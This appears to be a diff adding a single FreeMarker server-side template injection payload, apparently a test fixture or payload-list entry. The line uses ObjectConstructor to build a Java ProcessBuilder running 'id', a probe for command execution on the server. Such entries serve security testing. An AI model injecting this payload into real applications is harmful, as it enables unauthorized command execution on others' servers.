@@ -1,0 +1,1 @@
+${'freemarker.template.utility.ObjectConstructor'?new()('java.lang.ProcessBuilder', 'id')}
